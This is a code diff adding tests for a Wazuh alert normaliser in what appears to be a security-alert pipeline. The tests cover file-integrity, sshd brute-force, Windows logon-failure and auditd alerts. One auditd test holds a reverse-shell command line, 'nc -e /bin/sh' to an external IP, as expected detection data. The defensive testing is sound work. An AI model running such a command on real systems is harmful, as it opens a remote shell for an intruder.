@@ -1,7 +1,19 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { wazuhNormalizer } from './wazuh.normalizer.js';
-import { assertNamesArePaths, attackKeys, fixture, NOW, observed, onlyAlert, vigilOf, withPath } from '../../../test/support/normalizer-testing.js';
+import {
+  asNdjson,
+  assertNamesArePaths,
+  attackKeys,
+  expectShape,
+  fixture,
+  NOW,
+  observed,
+  onlyAlert,
+  shapeFixture,
+  vigilOf,
+  withPath,
+} from '../../../test/support/normalizer-testing.js';
 
 const FIXTURE = 'wazuh_alert.json';
 const ID = '1772446492.8812345';
@@ -137,5 +149,73 @@ describe('wazuh normaliser', () => {
     assert.equal(wazuhNormalizer.normalize({ rule: 'x' }, NOW).failures[0].code, 'unrecognized_payload');
     assert.equal(wazuhNormalizer.detect(integrationBody(fixture(FIXTURE))), true);
     assert.equal(wazuhNormalizer.detect(fixture('suricata_eve_alert.json')), false);
+  });
+});
+
+describe('documented Wazuh rule groups (test/fixtures/alerts/wazuh)', () => {
+  const normalize = (file: string) => onlyAlert(wazuhNormalizer.normalize(shapeFixture('wazuh', file), NOW));
+
+  test('syscheck: the file from its path with hashes after the change, and who changed it', () => {
+    const alert = normalize('syscheck-file-modified.json');
+    expectShape(alert, {
+      title: 'Integrity checksum changed.',
+      severity_id: 3,
+      time: '2026-03-09T07:31:02.118Z',
+      rule: '550',
+      attacks: ['TA0040|T1565|T1565.001'],
+      device: { hostname: 'web01', ip: '10.1.20.11', uid: '004' },
+      observables: [
+        'file_name:sudoers',
+        'sha256:d4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35',
+        'md5:8f14e45fceea167a5a36dedd4bea2543',
+        'file_name:vim.basic',
+        'user:deploy',
+      ],
+    });
+    assert.equal(alert.unmapped?.count, 3);
+  });
+
+  test('sshd authentication failures: the IPv6 source and the tried user name', () => {
+    expectShape(normalize('sshd-authentication-failed.json'), {
+      title: 'sshd: brute force trying to get access to the system. Non existent user.',
+      severity_id: 3,
+      time: '2026-03-09T03:12:44.551Z',
+      attacks: ['TA0006|T1110|'],
+      observables: ['ip:2001:db8:beef::23', 'user:admin'],
+    });
+  });
+
+  test('windows eventchannel: target user with its domain, the machine-account subject as a host, the IPv4-mapped source as IPv4', () => {
+    expectShape(normalize('windows-eventchannel-logon-failure.json'), {
+      title: 'Multiple Windows logon failures followed by a logon with explicit credentials by a machine account',
+      severity_id: 4,
+      time: '2026-03-09T09:45:10.003Z',
+      user: { name: 'adm_jdoe', domain: 'CORP' },
+      observables: ['user:adm_jdoe', 'hostname:WS-0142', 'ip:10.1.4.142'],
+      absent: ['user:WS-0142$', 'ip:::ffff:10.1.4.142'],
+    });
+  });
+
+  test('audit: the executable from its path and the command line from the execve arguments', () => {
+    expectShape(normalize('auditd-command-execution.json'), {
+      title: 'Audit: Highly privileged command run: /usr/bin/nc',
+      severity_id: 4,
+      time: '2026-03-09T12:20:33.772Z',
+      attacks: ['TA0002|T1059|T1059.004'],
+      user: { name: 'root' },
+      observables: ['file_name:nc.openbsd', 'command_line:nc -e /bin/sh 198.51.100.14 4444', 'user:pgadmin', 'user:root'],
+    });
+  });
+
+  test('alerts.json lines: the four groups as NDJSON, one alert each', () => {
+    const lines = ['syscheck-file-modified.json', 'sshd-authentication-failed.json', 'windows-eventchannel-logon-failure.json', 'auditd-command-execution.json'].map((f) =>
+      shapeFixture('wazuh', f),
+    );
+    const result = wazuhNormalizer.normalize(asNdjson(lines), NOW);
+    assert.deepEqual(result.failures, []);
+    assert.deepEqual(
+      result.alerts.map((a) => a.alert.finding_info.uid),
+      ['1772955062.2231456', '1772925164.998877', '1772963110.5512001', '1772972433.7001122'],
+    );
   });
 });
